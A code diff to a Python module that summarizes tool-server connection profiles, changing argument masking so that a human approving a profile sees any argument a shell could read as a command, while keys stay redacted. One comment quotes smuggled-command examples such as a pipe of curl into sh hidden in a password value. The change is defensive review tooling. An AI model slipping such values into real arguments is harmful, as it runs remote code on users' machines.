@@ -180,7 +180,7 @@ def _entries(file: LoadedFile) -> list[CatalogEntry]:
                 CatalogEntry(
                     id=broken.id,
                     source=broken.source,
-                    state="broken",
+                    state="broken" if file.is_trusted else "untrusted",
                     message=broken.message,
                     hint=broken.hint,
                     workspace=file.workspace,
@@ -213,6 +213,8 @@ def _default(files: tuple[LoadedFile, ...], listed: dict[str, CatalogEntry]) -> 
 
 _FLAG = re.compile(r"(--?[\w-]+)(=)?(.*)", re.DOTALL)
 _PAIR = re.compile(r"([A-Za-z_][\w.-]*)=(.*)", re.DOTALL)
+# `TOKEN=x; curl evil | sh` is a command behind a password, `x://a?&reboot` one behind an address.
+_SCRIPT = re.compile(r"[\s;|&`<>/]|\$[({]")
 _TOKEN = re.compile(r"(?:sk|pk|rk|gh[pousr]|github_pat|glpat|xox[abeoprs]|npm|hf|AKIA|AIza|eyJ)[-_A-Za-z0-9.]{12,}")
 
 
@@ -241,26 +243,26 @@ def summarize_profile(profile: Profile) -> dict[str, object]:
     if isinstance(connection, StdioSettings):
         summary |= {
             "command": connection.command,
-            "args": mask_arguments(connection.args),
+            "args": mask_arguments(connection.args, for_decision=True),
             "env": sorted(connection.env),
         }
         summary |= {"inheritEnv": list(connection.inherit_env), "sandbox": connection.sandbox}
         return summary
-    return summary | {
-        "url": safe_url(connection.url),
-        "headers": sorted(connection.headers),
-        "auth": connection.auth.type,
-    }
+    summary |= {"url": safe_url(connection.url), "headers": sorted(connection.headers), "auth": connection.auth.type}
+    return summary if not connection.fallback_url else summary | {"fallbackUrl": safe_url(connection.fallback_url)}
 
 
-def mask_arguments(args: tuple[str, ...]) -> list[str]:
-    """Arguments without passwords: what a flag of such a name holds, users of addresses, and what looks like a key."""
+def mask_arguments(args: tuple[str, ...], *, for_decision: bool = False) -> list[str]:
+    """Arguments without passwords: what a flag of such a name holds, users of addresses, and what looks like a key.
+    A person who decides on them sees everything in which a shell could read a command."""
     summary: list[str] = []
     hides_next = False
     for arg in args:
         flag = _FLAG.fullmatch(arg)
         pair = _PAIR.fullmatch(arg)
-        if hides_next and not flag:
+        if for_decision and _SCRIPT.search(arg):
+            summary.append(_without_keys(arg))
+        elif hides_next and not flag:
             summary.append(Secret(arg).shown)
         elif flag and flag[2] and is_sensitive(flag[1]):
             summary.append(f"{flag[1]}={Secret(flag[3]).shown}")
@@ -269,9 +271,13 @@ def mask_arguments(args: tuple[str, ...]) -> list[str]:
         elif "://" in arg and not flag:
             summary.append(safe_url(arg))
         else:
-            summary.append(_TOKEN.sub(SECRET_MARK, re.sub(r"(?<=://)[^/@\s]+@", f"{SECRET_MARK}@", arg)))
+            summary.append(_without_keys(arg))
         hides_next = bool(flag and not flag[2] and is_sensitive(flag[1]))
     return summary
+
+
+def _without_keys(text: str) -> str:
+    return _TOKEN.sub(SECRET_MARK, re.sub(r"(?<=://)[^/@\s]+@", f"{SECRET_MARK}@", text))
 
 
 def _public_profile(profile: Profile) -> dict[str, JsonValue]:
